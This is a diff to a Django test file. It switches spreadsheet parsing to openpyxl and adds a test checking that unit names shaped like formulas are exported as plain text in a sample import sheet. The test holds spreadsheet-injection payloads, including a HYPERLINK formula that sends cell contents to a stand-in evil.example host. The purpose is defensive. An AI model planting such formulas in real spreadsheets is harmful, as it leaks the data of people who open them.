@@ -3,16 +3,17 @@
 import io
 import re
 
+import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.http import HttpResponseBase
 from django.test import Client
-from python_calamine import CalamineWorkbook
 
+from motcua.org import services
 from motcua.org.acts import Role
 from motcua.org.selectors import actor_for
 from motcua.testing import facts
-from motcua.testing.office import DIVISION
+from motcua.testing.office import DIVISION, FIRST_DAY
 from tests.web.conftest import SignedIn
 from tests.web.pages import text
 
@@ -81,12 +82,23 @@ def test_lines_that_somebody_has_meddled_with_enter_nobody_wrong(as_role: Signed
     assert actor_for("an.lt", today=facts.TODAY) is None
 
 
+def test_a_unit_called_like_a_formula_is_a_text_in_the_sample_sheet(admin: Client) -> None:
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
+    for number, called in enumerate((name, "{=1+1}", "https://evil.example", "+1", "@x")):
+        services.ensure_unit(code=f"H37.6{number}", name=called, valid_from=FIRST_DAY)
+    content: bytes = getattr(admin.get(f"{IMPORT}mau.xlsx"), "content", b"")
+    _, known = openpyxl.load_workbook(io.BytesIO(content)).worksheets
+    cells = [cell for row in known.iter_rows() for cell in row if cell.value is not None]
+    assert name in [cell.value for cell in cells]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert all(cell.hyperlink is None for cell in cells)
+
+
 def test_the_sample_sheet_has_the_columns_that_are_read(admin: Client) -> None:
     answer = admin.get(f"{IMPORT}mau.xlsx")
     assert "attachment" in answer.headers["Content-Disposition"]
     content: bytes = getattr(answer, "content", b"")
-    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
-    head = book.get_sheet_by_index(0).to_python()[0]
-    assert head[:2] == ["Tên đăng nhập", "Họ và tên"]
-    codes = [row[0] for row in book.get_sheet_by_index(1).to_python()]
+    people, known = openpyxl.load_workbook(io.BytesIO(content)).worksheets
+    assert [cell.value for cell in people[1]][:2] == ["Tên đăng nhập", "Họ và tên"]
+    codes = [row[0] for row in known.values]
     assert DIVISION in codes
